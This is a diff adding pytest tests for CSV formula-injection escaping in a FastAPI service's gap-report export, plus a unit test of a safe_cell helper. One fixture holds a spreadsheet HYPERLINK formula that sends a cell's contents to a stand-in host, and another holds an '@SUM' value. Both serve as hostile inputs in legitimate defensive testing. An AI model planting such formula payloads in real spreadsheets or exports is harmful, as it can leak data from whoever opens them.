@@ -3,6 +3,8 @@ reproduced on the real embedded database."""
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import socket
 import subprocess
@@ -16,6 +18,7 @@ import pytest
 from fastapi.testclient import TestClient
 
 from api.main import create_app
+from graph.csv_cells import safe_cell
 from graph.engines.falkordb_store import FalkorDBStore
 from graph.ingest.seed_loader import load_seeds
 from graph.ingest.seeds import load_seed_dir
@@ -177,3 +180,31 @@ def test_nan_and_infinity_in_any_json_body_are_a_422(client: TestClient) -> None
                 )
                 assert r.status_code in (401, 422), (method, path, body, r.status_code)
                 assert r.json()["detail"]
+
+
+# --- CSV formula injection ----------------------------------------------------------------------
+
+
+def test_csv_cells_never_start_a_formula(client: TestClient) -> None:
+    body = {
+        "id": "lycee-formule",
+        "name": '=HYPERLINK("http://x.example/?"&A1;"clic")',
+        "kind": "lycee",
+        "site": "46102",
+        "campus": "mini",
+        "source": "@SUM(1+1) courrier du proviseur",
+    }
+    assert client.post("/actors", json=body, headers=AUTH).status_code == 201
+    r = client.get("/gaps.csv", params={"campus": "mini", "section": "isolated_actors"})
+    assert r.status_code == 200
+    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff")), delimiter=";"))
+    cells = [c for row in rows for c in row]
+    assert "'" + body["name"] in cells and "'" + body["source"] in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_safe_cell() -> None:
+    for text in ("=1+1", "+33 5 65", "-2", "@A1", "\tx", "\rx"):
+        assert safe_cell(text) == "'" + text
+    assert safe_cell("Lycée Champollion") == "Lycée Champollion"
+    assert safe_cell(-2) == -2 and safe_cell(None) is None
